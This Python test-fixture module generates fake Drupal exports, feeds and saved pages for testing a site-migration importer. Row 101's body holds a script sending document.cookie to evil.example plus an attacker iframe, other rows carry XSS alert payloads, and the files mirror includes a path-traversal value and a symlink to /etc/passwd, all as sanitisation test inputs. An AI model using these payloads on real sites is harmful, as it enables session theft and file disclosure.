"""Exports shaped like the ones agencies have, for the `sitegen import` tests (made, never fetched).

- `drupal_csv`: a Drupal Views data export saved from Excel: Windows-1252 bytes (curly quotes as
  0x92-0x94), dates as Drupal prints them ("Mon, 10/01/2018 - 12:00"), entities escaped once
  and twice (`&amp;`, `&amp;#039;`), a duplicate title, a row without a summary, body HTML with
  a script, an iframe, an `<h1>`, a table without headers and links to files and to other rows.
- `drupal_json`: the views_datasource shape (`{"nodes": [{"node": {...}}]}`) with Unix
  timestamps and "October 1, 2018" dates.
- `atom_feed`, `rss_feed`: an Atom 1.0 and an RSS 2.0 feed with enclosures and categories.
- `saved_pages`: a folder of pages saved from the old site (`wget --mirror`), with the mapping
  of CSS selectors that picks the fields.
- `files_mirror`: the old `/sites/default/files/` with real PDF signatures, plus a symlink
  that points outside it.

`python3 tests/import_fixtures.py N OUT.csv` writes a CSV export of N rows for timing.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sys
from pathlib import Path

from pdf_fixtures import tagged_pdf

PDF = b"%PDF-1.4\n% test attachment\n"

CSV_MAPPING = """\
# Drupal Views data export of the old library
source:
  encoding: windows-1252
old_site: https://www.dhs.gov
files_prefix: /sites/default/files/
fields:
  id: Nid
  url: Path
  title: Title
  date: {from: Post date, formats: ["%a, %m/%d/%Y - %H:%M", "%m/%d/%Y"]}
  updated: {from: Updated, formats: ["%a, %m/%d/%Y - %H:%M"]}
  summary: Summary
  body: Body
  component:
    from: Component
    map:
      "U.S. Immigration and Customs Enforcement": ice
      "Customs & Border Protection": cbp
  type:
    from: Publication type
    map: {PIA: privacy-impact-assessment, "Fact sheet": fact-sheet}
  topics: {from: Topics, split: "|"}
  attachments: {from: Files, split: "|"}
unknown:
  type: create
  topics: create
  component: error
"""

ROWS = [
    {
        "Nid": "101",
        "Title": "DHS/ICE/PIA-049 ICE Parole &amp; Law Enforcement Programs Unit",
        "Post date": "Mon, 10/01/2018 - 12:00",
        "Updated": "Mon, 02/11/2019 - 09:15",
        "Component": "U.S. Immigration and Customs Enforcement",
        "Publication type": "PIA",
        "Topics": "Privacy|Immigration",
        "Summary": "The Parole and Law Enforcement Programs Unit owns three systems.",
        "Body": "<h1>Overview</h1><p>The unit\u2019s systems are described below.</p>"
        "<script>document.location='https://evil.example/'+document.cookie</script>"
        "<h4>Systems</h4><table><tr><td>System</td><td>Purpose</td></tr><tr><td>PLEPU</td><td>Cases</td></tr></table>"
        '<p>See the <a href="/sites/default/files/publications/privacy-pia-ice-049-october2018.pdf">full assessment</a> '
        'and the <a href="/publication/cbp-body-worn-cameras">CBP fact sheet</a>.</p>'
        '<iframe src="https://evil.example/frame"></iframe>',
        "Files": "/sites/default/files/publications/privacy-pia-ice-049-october2018.pdf",
        "Path": "/publication/dhs-ice-pia-049",
    },
    {
        "Nid": "102",
        "Title": "CBP Body&amp;#039;s Worn Cameras",
        "Post date": "Tue, 11/06/2018 - 09:30",
        "Updated": "",
        "Component": "Customs & Border Protection",
        "Publication type": "Fact sheet",
        "Topics": "Border Security",
        "Summary": "",
        "Body": "<p>U.S. Customs and Border Protection \u201cbody-worn cameras\u201d record encounters at ports of entry. "
        'The program started in 2018.</p><p onclick="alert(1)">Read <a href="javascript:alert(2)">this</a>.</p>',
        "Files": "",
        "Path": "/publication/cbp-body-worn-cameras",
    },
    {
        "Nid": "103",
        "Title": "Annual Privacy Report",
        "Post date": "Wed, 01/15/2020 - 08:00",
        "Updated": "",
        "Component": "U.S. Immigration and Customs Enforcement",
        "Publication type": "Report",
        "Topics": "Privacy",
        "Summary": "The 2019 annual privacy report.",
        "Body": "<p>Annual report for 2019.</p>",
        "Files": "/sites/default/files/2020-01/annual%20report%202019.pdf|/sites/default/files/2020-01/missing-appendix.pdf",
        "Path": "/publication/annual-privacy-report",
    },
    {
        "Nid": "104",
        "Title": "Annual Privacy Report",
        "Post date": "01/14/2021",
        "Updated": "",
        "Component": "U.S. Immigration and Customs Enforcement",
        "Publication type": "Report",
        "Topics": "",
        "Summary": "The 2020 annual privacy report.",
        "Body": "<p>Annual report for 2020.</p>",
        "Files": "",
        "Path": "/publication/annual-privacy-report-2020",
    },
    {
        "Nid": "105",
        "Title": "Testimony of the Director",
        "Post date": "Thu, 03/04/2021 - 10:00",
        "Updated": "",
        "Component": "U.S. Immigration and Customs Enforcement",
        "Publication type": "Testimony",
        "Topics": "Immigration",
        "Summary": "Testimony before the House Committee on Homeland Security.",
        "Body": "<p>Chairman, Ranking Member, thank you.</p>",
        "Files": "/sites/default/files/../../../etc/passwd",
        "Path": "/publication/testimony-director",
    },
]
COLUMNS = [
    "Nid",
    "Title",
    "Post date",
    "Updated",
    "Component",
    "Publication type",
    "Topics",
    "Summary",
    "Body",
    "Files",
    "Path",
]


def drupal_csv(rows: list[dict[str, str]] | None = None) -> bytes:
    """The export as Excel saves it on Windows: Windows-1252, CRLF line ends, every cell quoted."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, COLUMNS, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows if rows is not None else ROWS)
    return buffer.getvalue().encode("cp1252")


def files_mirror(root: Path) -> Path:
    """The old site's files folder: the PDFs the export names, and a symlink that leaves it."""
    for relative in (
        "publications/privacy-pia-ice-049-october2018.pdf",
        "2020-01/annual report 2019.pdf",
        "2021-05/ice-annual.pdf",
        "feeds/cbp-report.pdf",
        "pages/PIA_ICE_050.PDF",
    ):
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        # Real, accessible PDFs: the build reads every attachment and checks it for Section 508.
        path.write_bytes(tagged_pdf(title=f"Attachment {Path(relative).stem}", marker=relative))
    (root / "publications" / "secrets.pdf").symlink_to("/etc/passwd")
    return root


JSON_MAPPING = """\
source:
  records: nodes
  record: node
old_site: https://www.dhs.gov
fields:
  id: nid
  url: path
  title: title
  date: {from: created, formats: ["%B %d, %Y"]}
  summary: field_summary
  body: body
  component: {from: field_component, map: {ICE: ice, CBP: cbp}}
  type: {from: field_type, map: {"Privacy Impact Assessment": privacy-impact-assessment}}
  topics: field_topics
  attachments: field_file
unknown:
  topics: drop
"""


def drupal_json() -> bytes:
    nodes = [
        {
            "node": {
                "nid": 201,
                "title": "DHS/ICE/PIA-050 Student &amp; Exchange Visitor Program",
                "created": "1538352000",
                "field_summary": "SEVP collects information on students.",
                "body": "<p>The Student and Exchange Visitor Program (SEVP) &mdash; a program of ICE.</p>",
                "field_component": "ICE",
                "field_type": "Privacy Impact Assessment",
                "field_topics": ["Privacy", "Unknown Topic"],
                "field_file": [
                    {
                        "url": "https://www.dhs.gov/sites/default/files/2021-05/ice-annual.pdf",
                        "description": "SEVP PIA (PDF)",
                    }
                ],
                "path": "https://www.dhs.gov/publication/dhs-ice-pia-050",
            }
        },
        {
            "node": {
                "nid": 202,
                "title": "CBP Trade Fact Sheet",
                "created": "October 1, 2019",
                "field_summary": "",
                "body": "<p>Trade facts.</p><p>More facts about trade and the border.</p>",
                "field_component": "CBP",
                "field_type": "fact-sheet",
                "field_topics": [],
                "field_file": [],
                "path": "/publication/cbp-trade",
            }
        },
    ]
    return json.dumps({"nodes": nodes}, indent=2).encode("utf-8")


FEED_MAPPING = """\
old_site: https://www.dhs.gov
fields:
  component: {default: cbp}
  type: {default: report}
  topics: {map: {"Border Security": immigration}}
unknown:
  topics: create
"""


def atom_feed() -> bytes:
    return b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>CBP Publications</title>
  <id>https://www.dhs.gov/publications/cbp</id>
  <updated>2019-03-01T12:00:00Z</updated>
  <entry>
    <title type="html">CBP Report &amp;amp; Findings</title>
    <id>tag:dhs.gov,2019:node/301</id>
    <link rel="alternate" href="https://www.dhs.gov/publication/cbp-report-findings"/>
    <link rel="enclosure" href="https://www.dhs.gov/sites/default/files/feeds/cbp-report.pdf" type="application/pdf" length="40" title="Full report"/>
    <published>2019-02-01T02:00:00Z</published>
    <updated>2019-03-01T12:00:00Z</updated>
    <summary>Findings of the annual CBP review.</summary>
    <content type="html">&lt;p&gt;The review found &lt;em&gt;three&lt;/em&gt; things.&lt;/p&gt;&lt;img src="x" onerror="alert(1)" alt="chart"&gt;</content>
    <category term="Border Security"/>
  </entry>
  <entry>
    <title>CBP Second Report</title>
    <id>tag:dhs.gov,2019:node/302</id>
    <link rel="alternate" href="https://www.dhs.gov/publication/cbp-second-report"/>
    <published>2019-04-01T12:00:00-04:00</published>
    <content type="html">&lt;p&gt;A second report with no summary of its own, about the border and trade.&lt;/p&gt;</content>
  </entry>
</feed>
"""


def rss_feed() -> bytes:
    return """<?xml version="1.0" encoding="windows-1252"?>
<rss version="2.0">
  <channel>
    <title>FEMA News</title>
    <link>https://www.dhs.gov/</link>
    <description>Publications</description>
    <language>en-us</language>
    <item>
      <title>FEMA\u2019s Hurricane Guide</title>
      <link>https://www.dhs.gov/publication/fema-hurricane-guide</link>
      <guid isPermaLink="false">node/401</guid>
      <pubDate>Mon, 01 Oct 2018 12:00:00 EDT</pubDate>
      <description>&lt;p&gt;How to prepare for a hurricane.&lt;/p&gt;&lt;p&gt;&lt;a href="/publication/cbp-report-findings"&gt;Related report&lt;/a&gt;&lt;/p&gt;</description>
      <category>Emergency Management</category>
    </item>
    <item>
      <title>FEMA\u2019s Hurricane Guide</title>
      <link>https://www.dhs.gov/publication/fema-hurricane-guide-2019</link>
      <guid isPermaLink="false">node/402</guid>
      <pubDate>Tue, 01 Oct 2019 12:00:00 EDT</pubDate>
      <description>&lt;p&gt;The 2019 edition of the guide.&lt;/p&gt;</description>
    </item>
  </channel>
</rss>
""".encode("cp1252")


PAGES_MAPPING = """\
source:
  pages: "*.html"
old_site: https://www.dhs.gov
fields:
  url: "@canonical"
  title: h1.page-title
  date: {from: ".field--name-field-publication-date time"}
  summary: {from: 'meta[name="description"]', attribute: content}
  body: .field--name-body
  component: {from: ".field--name-field-component a", map: {"Immigration and Customs Enforcement": ice}}
  type: {from: ".field--name-field-publication-type", map: {"Privacy Impact Assessment": privacy-impact-assessment}}
  topics: ".field--name-field-topics a"
  attachments: ".field--name-field-file"
"""

PAGE = """<!DOCTYPE html>
<html lang="en" dir="ltr">
<head>
  <meta charset="utf-8">
  <title>{title} | Homeland Security</title>
  <meta name="description" content="{summary}">
  <link rel="canonical" href="https://www.dhs.gov/publication/{slug}">
  <script src="/core/misc/drupal.js"></script>
</head>
<body class="path-node page-node-type-publication">
  <a href="#main-content" class="visually-hidden focusable">Skip to main content</a>
  <header><nav><ul><li><a href="/">Home</a></li><li><a href="/news">News</a></li></ul></nav></header>
  <main id="main-content">
    <h1 class="page-title"><span class="field field--name-title">{title}</span></h1>
    <div class="field field--name-field-publication-date"><time datetime="{datetime}">{shown_date}</time></div>
    <div class="field field--name-field-component"><a href="/ice">Immigration and Customs Enforcement</a></div>
    <div class="field field--name-field-publication-type">Privacy Impact Assessment</div>
    <div class="field field--name-field-topics"><a href="/topics/privacy">Privacy</a></div>
    <div class="clearfix text-formatted field field--name-body">{body}</div>
    <div class="field field--name-field-file">{files}</div>
  </main>
  <footer>Footer</footer>
</body>
</html>
"""


def saved_pages(root: Path) -> Path:
    pages = [
        (
            "dhs-ice-pia-050-sevis",
            "DHS/ICE/PIA-050 SEVIS &amp; Students",
            "2018-11-01T17:00:00Z",
            "November 1, 2018",
            "SEVIS tracks students and exchange visitors.",
            (
                "<p>SEVIS is the system of record.</p><h3>Background</h3><p>Since 2003.</p>"
                '<img src="/sites/default/files/images/sevis-map.png" alt="">'
            ),
            '<span class="file"><a href="/sites/default/files/pages/PIA_ICE_050.PDF">DHS/ICE/PIA-050 (PDF)</a></span>',
        ),
        (
            "dhs-ice-pia-051",
            "DHS/ICE/PIA-051 Case Management",
            "2019-01-10T15:00:00Z",
            "January 10, 2019",
            "Case management for investigations.",
            '<p>Links to the <a href="dhs-ice-pia-050-sevis">SEVIS assessment</a>.</p>',
            "",
        ),
    ]
    root.mkdir(parents=True, exist_ok=True)
    for slug, title, datetime, shown, summary, body, files in pages:
        (root / f"{slug}.html").write_text(
            PAGE.format(
                slug=slug, title=title, datetime=datetime, shown_date=shown, summary=summary, body=body, files=files
            ),
            "utf-8",
        )
    (root / "robots.txt").write_text("User-agent: *\n")
    return root


def large_csv(count: int) -> bytes:
    """A CSV export of `count` rows: bodies of a few paragraphs, some attachments, odd dates."""
    rows = []
    for number in range(count):
        year = 2000 + number % 25
        rows.append(
            {
                "Nid": str(10_000 + number),
                "Title": f"DHS/ICE/PIA-{number:05d} Program &amp; System {number}",
                "Post date": f"Mon, {number % 12 + 1:02d}/{number % 28 + 1:02d}/{year} - 12:00",
                "Updated": "",
                "Component": "U.S. Immigration and Customs Enforcement"
                if number % 2
                else "Customs & Border Protection",
                "Publication type": "PIA" if number % 3 else "Fact sheet",
                "Topics": "Privacy|Immigration",
                "Summary": "" if number % 5 == 0 else f"Summary of publication {number}.",
                "Body": "".join(
                    f"<p>Paragraph {p} of publication {number}: the system collects information "
                    f"about people &amp; programs, and the <strong>assessment</strong> explains why.</p>"
                    for p in range(6)
                )
                + "<h2>Authority</h2><ul><li>6 U.S.C. 142</li><li>5 U.S.C. 552a</li></ul>",
                "Files": "",
                "Path": f"/publication/dhs-ice-pia-{number:05d}",
            }
        )
    return drupal_csv(rows)


if __name__ == "__main__":
    count, out = int(sys.argv[1]), Path(sys.argv[2])
    out.write_bytes(large_csv(count))
    (out.parent / "mapping.yaml").write_text(CSV_MAPPING, "utf-8")
    print(f"wrote {count:,} rows to {out} ({os.path.getsize(out):,} bytes) and {out.parent / 'mapping.yaml'}")
